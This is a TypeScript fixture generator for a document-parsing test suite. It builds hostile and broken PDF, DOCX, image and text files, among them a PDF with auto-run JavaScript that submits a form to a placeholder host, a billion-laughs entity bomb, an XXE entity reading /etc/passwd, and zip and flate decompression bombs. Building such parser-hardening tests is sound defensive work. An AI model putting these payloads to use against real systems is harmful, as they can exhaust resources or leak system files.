// Writes the generated hostile and broken inputs of fixtures/bad/ (deterministic: the same bytes on
// every run). Each is small on disk however much it claims or would inflate to. The eight older
// files there (empty.pdf, truncated.pdf, encrypted.pdf, …) are kept as they are; expected.json and
// README.md list every file with the status and error code a run must give it.
//   node dist/scripts/make-bad-fixtures.js [--out fixtures/bad]
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { parseArgs } from 'node:util';
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';

const { values } = parseArgs({ options: { out: { type: 'string' } } });
const OUT = path.resolve(values.out ?? path.join(process.cwd(), 'fixtures', 'bad'));
mkdirSync(OUT, { recursive: true });
const written: string[] = [];
const write = (name: string, data: Uint8Array | string) => {
  writeFileSync(path.join(OUT, name), data);
  written.push(name);
};

const b = (s: string) => Buffer.from(s, 'latin1');

// ── PDF ──────────────────────────────────────────────────────────────────────────────────────────

/** A stream object's body: dictionary entries (without << >>), then the data. */
const stream = (dict: string, data: Buffer) => Buffer.concat([b(`<< ${dict} /Length ${data.length} >>\nstream\n`), data, b('\nendstream')]);

/** A PDF of the given objects (1-based: objects[0] is object 1, the catalog), with a correct xref unless told otherwise. */
function pdf(objects: (string | Buffer)[], options: { xrefShift?: number; trailer?: string } = {}): Buffer {
  const parts: Buffer[] = [b('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  let at = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(at);
    const body = Buffer.concat([b(`${i + 1} 0 obj\n`), typeof o === 'string' ? b(o) : o, b('\nendobj\n')]);
    parts.push(body);
    at += body.length;
  });
  const shift = options.xrefShift ?? 0;
  const xref = [`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`, ...offsets.map((o) => `${String(o + shift).padStart(10, '0')} 00000 n \n`)].join('');
  parts.push(b(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${options.trailer ?? ''}>>\nstartxref\n${at}\n%%EOF\n`));
  return Buffer.concat(parts);
}

// Short ASCII text (under the 40 letters the OCR check scores) keeps every page off the OCR path.
const TEXT = b('BT /F1 14 Tf 72 760 Td (KE HOACH 12/KH-UBND) Tj 0 -20 Td (Nam 2024) Tj ET');
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** A one-page text PDF; `page` adds entries to the page dictionary, `catalog` to the catalog. */
function textPdf(options: { page?: string; catalog?: string; content?: Buffer; mediaBox?: string; extra?: (string | Buffer)[]; xrefShift?: number } = {}): Buffer {
  return pdf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${options.catalog ?? ''}>>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox ${options.mediaBox ?? '[0 0 595 842]'} /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R ${options.page ?? ''}>>`,
      options.content ?? stream('', TEXT),
      FONT,
      ...(options.extra ?? []),
    ],
    options.xrefShift !== undefined ? { xrefShift: options.xrefShift } : {},
  );
}

// JavaScript in every place a viewer would run it: the open action, the document's JavaScript
// name tree and the page's open action. The text is fine, so the file is read (the script never runs).
write(
  'pdf-javascript.pdf',
  textPdf({
    catalog: '/OpenAction 6 0 R /Names << /JavaScript << /Names [(boom) 6 0 R] >> >>',
    page: '/AA << /O 6 0 R >>',
    extra: ["<< /Type /Action /S /JavaScript /JS (app.alert('pwned'); this.submitForm('http://example.invalid/');) >>"],
  }),
);
// A billion pages in 1 KiB: nine levels of page-tree nodes, each listing the next level ten times,
// over one text page. (A bare /Count that the kids do not add up to is ignored by pdfjs.)
{
  const levels = 9;
  const nodes = Array.from({ length: levels }, (_, i) => {
    const kid = i + 3;
    return `<< /Type /Pages /Kids [${Array(10).fill(`${kid} 0 R`).join(' ')}] /Count ${10 ** (levels - i)} >>`;
  });
  write(
    'pdf-page-count.pdf',
    pdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      ...nodes,
      `<< /Type /Page /MediaBox [0 0 595 842] /Resources << /Font << /F1 ${levels + 4} 0 R >> >> /Contents ${levels + 3} 0 R >>`,
      stream('', TEXT),
      FONT,
    ]),
  );
}
// A page 200 × 200 inches with no text: it goes to OCR, where rendering it at 300 dpi would take 3.6 gigapixels.
write('pdf-huge-mediabox.pdf', textPdf({ mediaBox: '[0 0 14400 14400]', content: stream('', b('0 0 m 10 10 l S')) }));
// A page tree whose only kid is the tree itself.
write('pdf-page-tree-loop.pdf', pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']));
// An array nested 100 000 deep in the page dictionary (a recursive parser overflows its stack).
write('pdf-deep-nesting.pdf', textPdf({ page: `/Junk ${'['.repeat(100_000)}${']'.repeat(100_000)}` }));
// A content stream compressed twice: 2 KiB on disk, 1 GiB of spaces inflated, then the text.
{
  const inner = deflateSync(Buffer.concat([Buffer.alloc(1 << 30, 0x20), TEXT]), { level: 9 });
  const outer = deflateSync(inner, { level: 9 });
  write('pdf-flate-bomb.pdf', textPdf({ content: stream('/Filter [/FlateDecode /FlateDecode]', outer) }));
}
// Every cross-reference offset wrong by 7 bytes: readers rebuild the table by scanning (the text is fine).
write('pdf-bad-xref.pdf', textPdf({ xrefShift: 7 }));
// Objects broken in every way a lexer meets: unterminated string and dictionary, junk tokens, a
// reference to a missing object, a stream shorter than its /Length. The page itself is readable.
write(
  'pdf-malformed-objects.pdf',
  textPdf({
    page: '/Annots [7 0 R 99 0 R] /Thumb 6 0 R',
    extra: [b('<< /Length 500 >>\nstream\nshort\nendstream'), b('<< /Type /Annot /Subtype /Text /Contents (unterminated /Rect [0 0 1 1 >>'), b('<< /A << /B << >> ]]] }} @@@ 1 2 R R R >>')],
  }),
);
// Only a header: no objects, no trailer.
write('pdf-header-only.pdf', b('%PDF-1.7\n%%EOF\n'));
// An HTML error page saved under a .pdf name (a download that failed).
write(
  'html-named.pdf',
  '<!DOCTYPE html>\n<html lang="vi">\n<head><meta charset="utf-8"><title>404 Không tìm thấy</title></head>\n<body>\n<h1>Không tìm thấy tài liệu</h1>\n<p>Trang bạn yêu cầu không tồn tại hoặc đã bị xoá.</p>\n</body>\n</html>\n',
);

// ── DOCX ─────────────────────────────────────────────────────────────────────────────────────────

interface ZipEntry {
  name: string;
  data: Buffer;
  /** Store instead of deflating. */
  stored?: boolean;
  /** Sizes the directories declare instead of the true ones. */
  declaredSize?: number;
  declaredCrc?: number;
}

/** A zip (local headers, central directory, end record), every field written explicitly. */
function zip(entries: ZipEntry[], options: { declaredCount?: number } = {}): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8');
    const data = e.stored ? e.data : deflateRawSync(e.data, { level: 9 });
    const crc = e.declaredCrc ?? crc32(e.data);
    const size = e.declaredSize ?? e.data.length;
    const method = e.stored ? 0 : 8;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(0x00210000, 10); // 1980-01-01 00:00: a fixed date keeps the bytes stable
    local.writeUInt32LE(crc >>> 0, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(size >>> 0, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(0x00210000, 12);
    central.writeUInt32LE(crc >>> 0, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(size >>> 0, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, data);
    centrals.push(central, name);
    offset += 30 + name.length + data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(options.declaredCount ?? entries.length, 8);
  end.writeUInt16LE(options.declaredCount ?? entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const para = (text: string) => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`;
const BODY = [para('ỦY BAN NHÂN DÂN TỈNH LAI CHÂU'), para('KẾ HOẠCH'), para('Triển khai chuyển đổi số năm 2024'), para('1. Sở Thông tin và Truyền thông chủ trì, hoàn thành trước ngày 30/6/2024.')].join('');
const documentXml = (body = BODY, prolog = '') => `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n${prolog}<w:document ${W}><w:body>${body}</w:body></w:document>`;
const CONTENT_TYPES =
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const ROOT_RELS =
  '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';
const DOC_RELS =
  '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>';

const u = (s: string) => Buffer.from(s, 'utf8');
function docx(parts: Record<string, string | Buffer | Omit<ZipEntry, 'name'>>, options: { declaredCount?: number } = {}): Buffer {
  const all: Record<string, string | Buffer | Omit<ZipEntry, 'name'>> = { '[Content_Types].xml': CONTENT_TYPES, '_rels/.rels': ROOT_RELS, ...parts };
  return zip(
    Object.entries(all).map(([name, v]) => (typeof v === 'string' ? { name, data: u(v) } : Buffer.isBuffer(v) ? { name, data: v } : { name, ...v })),
    options,
  );
}

// word/document.xml padded with 20 MiB of spaces: 20 KiB compressed, a ratio of about 1000.
write('docx-zip-bomb.docx', docx({ 'word/document.xml': u(documentXml(BODY + ' '.repeat(20 << 20))) }));
// The directory says document.xml is 1 000 bytes; it inflates to 10 MiB.
write('docx-size-lie.docx', docx({ 'word/document.xml': { data: u(documentXml(BODY + ' '.repeat(10 << 20))), declaredSize: 1000 } }));
// A part that declares 3 GiB uncompressed.
write('docx-huge-part.docx', docx({ 'word/document.xml': u(documentXml()), 'word/media/image1.bin': { data: Buffer.alloc(1000), declaredSize: 3 * 2 ** 30 } }));
// "Billion laughs": ten levels of ten entity references, 10⁹ copies of "lol" if expanded.
{
  const ents = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`)].join('\n');
  write('docx-billion-laughs.docx', docx({ 'word/document.xml': documentXml(para('&lol9;') + BODY, `<!DOCTYPE w:document [\n${ents}\n]>\n`) }));
}
// An external entity in the styles part (another part than the body: read by both XML parsers).
write(
  'docx-xxe-styles.docx',
  docx({
    'word/document.xml': documentXml(),
    'word/_rels/document.xml.rels': DOC_RELS,
    'word/styles.xml': `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE w:styles [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<w:styles ${W}><w:style w:type="paragraph" w:styleId="A"><w:name w:val="&xxe;"/></w:style></w:styles>`,
  }),
);
// Package parts in place, the main document missing (the relationship points at nothing).
write('docx-no-body.docx', docx({ 'word/_rels/document.xml.rels': DOC_RELS, 'word/styles.xml': `<w:styles ${W}/>` }));
// word/document.xml present but empty.
write('docx-empty-body.docx', docx({ 'word/document.xml': Buffer.alloc(0) }));
// The end record claims 65 535 entries (the directory holds three).
write('docx-entry-count.docx', docx({ 'word/document.xml': documentXml() }, { declaredCount: 65_535 }));
// Structured-document tags nested 20 000 deep around the text (under 1 MiB: the ratio check leaves it to the parsers).
write('docx-deep-nesting.docx', docx({ 'word/document.xml': documentXml(`${'<w:sdt><w:sdtContent>'.repeat(20_000)}${BODY}${'</w:sdtContent></w:sdt>'.repeat(20_000)}`) }));
// A document.xml whose stored CRC is wrong (a damaged download).
write('docx-bad-crc.docx', docx({ 'word/document.xml': { data: u(documentXml()), declaredCrc: 0x12345678 } }));
// The first half of a real .docx.
{
  const real = readFileSync(path.join(process.cwd(), 'fixtures', 'samples', '001_d8cd633b5606b692', 'plan.docx'));
  write('docx-truncated.docx', real.subarray(0, real.length >> 1));
}

// ── Images ───────────────────────────────────────────────────────────────────────────────────────

function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([b(type), data])) >>> 0, 0);
  return Buffer.concat([head, data, crc]);
}
// IHDR: 1 000 000 × 1 000 000 pixels, 8-bit gray; the image data is a few bytes.
{
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(1_000_000, 0);
  ihdr.writeUInt32BE(1_000_000, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 0; // gray
  write('png-huge.png', Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', ihdr), pngChunk('IDAT', deflateSync(Buffer.alloc(1000))), pngChunk('IEND', Buffer.alloc(0))]));
}
// A PNG cut inside its image data (the first 2 000 bytes of a sample page photo).
{
  const real = readFileSync(path.join(process.cwd(), 'fixtures', 'samples', '000_c1c288300de4c859', 'scan-p1.png'));
  write('png-truncated.png', real.subarray(0, 2000));
}
// A baseline JPEG frame header of 65 500 × 65 500 pixels, nothing after it.
{
  const sof = Buffer.from([0xff, 0xc0, 0x00, 0x0b, 0x08, 0xff, 0xdc, 0xff, 0xdc, 0x01, 0x01, 0x11, 0x00]);
  write('jpeg-huge.jpg', Buffer.concat([Buffer.from([0xff, 0xd8]), sof, Buffer.from([0xff, 0xd9])]));
}

/** A little-endian TIFF of IFDs laid out one after another; `entries` per IFD as [tag, type, count, value]. */
function tiff(ifds: [number, number, number, number][][], next?: (i: number, offsets: number[]) => number): Buffer {
  const sizes = ifds.map((e) => 2 + e.length * 12 + 4);
  const offsets: number[] = [];
  let at = 8;
  for (const s of sizes) {
    offsets.push(at);
    at += s;
  }
  const strip = at; // one byte of pixel data shared by every page
  const buf = Buffer.alloc(at + 1);
  buf.write('II', 0, 'latin1');
  buf.writeUInt16LE(42, 2);
  buf.writeUInt32LE(offsets[0]!, 4);
  ifds.forEach((entries, i) => {
    let p = offsets[i]!;
    buf.writeUInt16LE(entries.length, p);
    p += 2;
    for (const [tag, type, count, value] of entries) {
      buf.writeUInt16LE(tag, p);
      buf.writeUInt16LE(type, p + 2);
      buf.writeUInt32LE(count, p + 4);
      if (type === 3 && count === 1) buf.writeUInt16LE(value === -1 ? strip : value, p + 8);
      else buf.writeUInt32LE(value === -1 ? strip : value, p + 8);
      p += 12;
    }
    buf.writeUInt32LE(next ? next(i, offsets) : (offsets[i + 1] ?? 0), p);
  });
  return buf;
}
/** A 1 × 1 8-bit gray page (or as wide and high as asked). */
const page = (width = 1, height = 1): [number, number, number, number][] => [
  [256, 4, 1, width],
  [257, 4, 1, height],
  [258, 3, 1, 8],
  [262, 3, 1, 1],
  [273, 4, 1, -1],
  [277, 3, 1, 1],
  [279, 4, 1, 1],
];
write('tiff-huge.tif', tiff([page(200_000, 200_000)]));
// 2 001 one-pixel pages: one more than the page limit.
write('tiff-many-pages.tif', tiff(Array.from({ length: 2001 }, () => page())));
// The page chain points back at its own first page: a reader that does not notice loops forever.
write('tiff-ifd-loop.tif', tiff([page(), page()], (i, offsets) => offsets[i === 0 ? 1 : 0]!));
// A tag that declares four billion values (a reader that trusts the count allocates without end).
write('tiff-huge-count.tif', tiff([[...page(), [320, 3, 0xfffffff0, 8]]]));

// ── Text and others ──────────────────────────────────────────────────────────────────────────────

// Japanese in Shift-JIS: 8-bit text that is no Vietnamese encoding (not UTF-8, not TCVN3, not VNI).
write(
  'shift-jis.txt',
  Buffer.from(
    '967b8c7689e682cd8141926e88e682cc83668357835e838b95cf8a7682f09084906982b782e982bd82df82cc8d7393ae8c7689e682c582b781420a8a6595948f9082cd8afa8cc082dc82c582c995f18d908f9182f092f18f6f82b782e982b182c681420a'.repeat(4),
    'hex',
  ),
);
// UTF-16LE with its byte-order mark, cut one byte into a character.
{
  const text = Buffer.from('\ufeffKẾ HOẠCH\nTriển khai chuyển đổi số năm 2024\n', 'utf16le');
  write('utf16-odd-length.txt', text.subarray(0, text.length - 1));
}
// An RTF document under a .docx name.
write('rtf-named.docx', '{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times New Roman;}}\\f0\\fs24 K\\u7870? HO\\u7840?CH\\par}\n');

console.log(`wrote ${written.length} files to ${path.relative(process.cwd(), OUT) || '.'}: ${written.join(', ')}`);
